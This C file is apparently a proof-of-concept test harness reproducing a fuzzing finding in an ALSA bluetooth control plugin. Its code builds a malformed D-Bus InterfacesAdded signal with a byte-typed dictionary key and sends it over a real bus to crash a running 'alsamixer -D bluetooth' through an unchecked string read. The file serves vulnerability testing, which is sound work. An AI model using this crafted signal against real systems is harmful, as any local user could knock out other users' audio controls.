/*
 * Finding 1 (tests/fuzz/README.md) over a real bus: ctl_bt/ctl_bluetooth.c's
 * on_interfaces_added reads each dict key of InterfacesAdded with
 * dbus_message_iter_get_basic into a const char * without checking that it
 * is a string. ctl_filter sees every message on the ctl's connection,
 * including signals any local user addresses to it (the system bus policy
 * allows them), so one InterfacesAdded with a byte or uint64 key crashes a
 * running `alsamixer -D bluetooth` (strcmp on 0x41 or 0x4141414141414141).
 * Built and run by run.sh: the project's real ctl_filter on connection A.
 */
#ifndef PIC
#define PIC 1
#endif
#include "../../../../ctl_bt/ctl_bluetooth.c"

static DBusConnection *connect_bus(const char *address)
{
	DBusError err;
	DBusConnection *c;

	dbus_error_init(&err);
	c = dbus_connection_open_private(address, &err);
	if (!c || !dbus_bus_register(c, &err)) {
		fprintf(stderr, "connect: %s\n", err.message);
		exit(2);
	}
	return c;
}

int main(int argc, char **argv)
{
	struct bt_ctl *ctl = calloc(1, sizeof(*ctl));
	DBusConnection *a, *b;
	DBusMessage *m;
	DBusMessageIter it, ifaces, e, props;
	const char *path = "/org/bluez/hci0/dev_00_1B_66_AA_BB_CC/sep1/fd0";
	uint8_t key = 0x41;

	if (argc < 2)
		return 2;
	a = connect_bus(argv[1]);
	b = connect_bus(argv[1]);
	ctl->vs.inotify_fd = ctl->epoll_fd = ctl->pending_fd = -1;
	ctl->speaker_volume = ctl->battery = -1;
	snprintf(ctl->dev.path, sizeof(ctl->dev.path), "/org/bluez/hci0/dev_00_1B_66_AA_BB_CC");
	/* As bt_connect sets it up. */
	dbus_connection_add_filter(a, ctl_filter, ctl, NULL);
	for (size_t i = 0; i < sizeof(match_rules) / sizeof(match_rules[0]); i++)
		dbus_bus_add_match(a, match_rules[i], NULL);

	m = dbus_message_new_signal("/", "org.freedesktop.DBus.ObjectManager", "InterfacesAdded");
	dbus_message_set_destination(m, dbus_bus_get_unique_name(a));
	dbus_message_iter_init_append(m, &it);
	dbus_message_iter_append_basic(&it, DBUS_TYPE_OBJECT_PATH, &path);
	dbus_message_iter_open_container(&it, DBUS_TYPE_ARRAY, "{ya{sv}}", &ifaces);
	dbus_message_iter_open_container(&ifaces, DBUS_TYPE_DICT_ENTRY, NULL, &e);
	dbus_message_iter_append_basic(&e, DBUS_TYPE_BYTE, &key);
	dbus_message_iter_open_container(&e, DBUS_TYPE_ARRAY, "{sv}", &props);
	dbus_message_iter_close_container(&e, &props);
	dbus_message_iter_close_container(&ifaces, &e);
	dbus_message_iter_close_container(&it, &ifaces);
	printf("%s sends InterfacesAdded(o, a{ya{sv}}) to the ctl's connection %s\n",
	       dbus_bus_get_unique_name(b), dbus_bus_get_unique_name(a));
	fflush(stdout);
	dbus_connection_send(b, m, NULL);
	dbus_connection_flush(b);
	for (int i = 0; i < 20; i++)
		pump(ctl);     /* what bt_read_event / bt_poll_revents do */
	printf("the ctl survived\n");
	return 0;
}
